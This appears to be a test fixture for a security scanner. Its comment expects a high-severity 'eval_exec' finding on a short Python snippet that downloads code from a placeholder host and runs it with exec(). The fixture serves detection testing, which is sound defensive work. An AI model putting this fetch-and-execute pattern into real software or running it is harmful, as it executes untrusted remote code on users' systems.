# expect: python.eval_exec high
# path: t/b.py
import requests
exec(requests.get('https://get.example.net/x.py').text)
